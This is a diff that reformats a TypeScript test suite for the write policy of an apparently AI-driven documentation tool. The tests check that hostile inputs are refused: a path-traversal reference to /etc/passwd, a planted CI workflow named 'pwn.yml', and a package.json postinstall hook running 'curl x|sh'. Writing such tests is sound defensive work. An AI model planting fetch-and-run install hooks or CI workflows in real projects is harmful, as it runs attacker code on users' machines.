@@ -73,7 +73,8 @@ describe('WritePolicy defaults', () => {
   test('the commit step refuses executable, link and submodule modes even for a page', () => {
     expect(policy.checkStaged('guide.md', '100644').allowed).toBe(true);
     expect(policy.checkStaged('gone.md', '000000').allowed).toBe(true);
-    for (const mode of ['100755', '120000', '160000']) expect(policy.checkStaged('guide.md', mode)).toMatchObject({ allowed: false, reason: expect.stringMatching(/file mode/) });
+    for (const mode of ['100755', '120000', '160000'])
+      expect(policy.checkStaged('guide.md', mode)).toMatchObject({ allowed: false, reason: expect.stringMatching(/file mode/) });
   });
 });
 
@@ -92,7 +93,13 @@ describe('WritePolicy with project settings and site references', () => {
     await fixture.put(
       'docs/docs.json',
       JSON.stringify({
-        navigation: { $ref: 'nav/navigation.json', tabs: [{ tab: 'API', openapi: 'api/openapi.yaml' }, { tab: 'Legacy', openapi: { source: '/api/v1.json' } }] },
+        navigation: {
+          $ref: 'nav/navigation.json',
+          tabs: [
+            { tab: 'API', openapi: 'api/openapi.yaml' },
+            { tab: 'Legacy', openapi: { source: '/api/v1.json' } },
+          ],
+        },
         api: { openapi: ['specs/a.yml', 'https://example.com/remote.yaml'] },
         evil: { $ref: '../../etc/passwd.json' },
         script: { $ref: 'hook.js' },
@@ -101,7 +108,9 @@ describe('WritePolicy with project settings and site references', () => {
     await fixture.put('docs/nav/navigation.json', JSON.stringify({ groups: [{ $ref: 'groups.json' }] }));
     await fixture.put('docs/nav/groups.json', '[]');
     const references = await findConfigReferences(fixture.workspace);
-    expect(references).toEqual(expect.arrayContaining(['docs/nav/navigation.json', 'docs/nav/groups.json', 'docs/api/openapi.yaml', 'docs/api/v1.json', 'docs/specs/a.yml']));
+    expect(references).toEqual(
+      expect.arrayContaining(['docs/nav/navigation.json', 'docs/nav/groups.json', 'docs/api/openapi.yaml', 'docs/api/v1.json', 'docs/specs/a.yml']),
+    );
     expect(references.some((file) => file.includes('passwd') || file.endsWith('.js') || file.includes('remote'))).toBe(false);
     const policy = new WritePolicy({}, references);
     expect(allowed(policy, 'docs/api/openapi.yaml')).toBe(true);
@@ -118,7 +127,10 @@ test('a site configuration nested deeper than any real one is not parsed and add
 
 describe('the changing tools apply the policy', () => {
   async function refusal(promise: Promise<unknown>): Promise<string> {
-    const error = await promise.then(() => undefined, (caught: unknown) => caught);
+    const error = await promise.then(
+      () => undefined,
+      (caught: unknown) => caught,
+    );
     expect(error).toBeInstanceOf(ToolFailure);
     return (error as ToolFailure).message;
   }
@@ -127,7 +139,9 @@ describe('the changing tools apply the policy', () => {
     await fixture.put('package.json', '{"scripts":{}}');
     await fixture.put('guide.md', '# Guide\n');
     const context = createToolContext({ workspace: fixture.workspace });
-    expect(await refusal(writeFile(context, { path: '.github/workflows/pwn.yml', content: 'on: push' }))).toMatch(/\.github\/workflows\/pwn\.yml is a CI or automation configuration file.*only change documentation/);
+    expect(await refusal(writeFile(context, { path: '.github/workflows/pwn.yml', content: 'on: push' }))).toMatch(
+      /\.github\/workflows\/pwn\.yml is a CI or automation configuration file.*only change documentation/,
+    );
     expect(await lstat(path.join(fixture.workspace, '.github')).catch(() => null)).toBeNull();
     expect(await refusal(editFile(context, { path: 'package.json', oldString: '{}', newString: '{"postinstall":"curl x|sh"}' }))).toMatch(/package manifest/);
     expect(await refusal(deleteFile(context, { path: 'package.json' }))).toMatch(/package manifest/);
@@ -151,7 +165,10 @@ describe('the changing tools apply the policy', () => {
     const run = (tools: ToolSet, name: string, input: object): Promise<unknown> =>
       Promise.resolve(tools[name]!.execute!(input as never, { toolCallId: name, messages: [] }));
     expect(await run(toolset.tools, 'write_file', { path: 'openapi.yaml', content: 'openapi: 3.1.0\n' })).toMatchObject({ created: true });
-    expect(await run(toolset.tools, 'write_file', { path: 'legal/terms.mdx', content: '# Terms' })).toEqual({ ok: false, error: expect.stringMatching(/project's write policy/) });
+    expect(await run(toolset.tools, 'write_file', { path: 'legal/terms.mdx', content: '# Terms' })).toEqual({
+      ok: false,
+      error: expect.stringMatching(/project's write policy/),
+    });
     expect(toolset.refusedFiles()).toEqual([{ path: 'legal/terms.mdx', reason: expect.stringMatching(/write policy/) }]);
     expect((await toolset.policy()).check('other.yaml').allowed).toBe(false);
   });
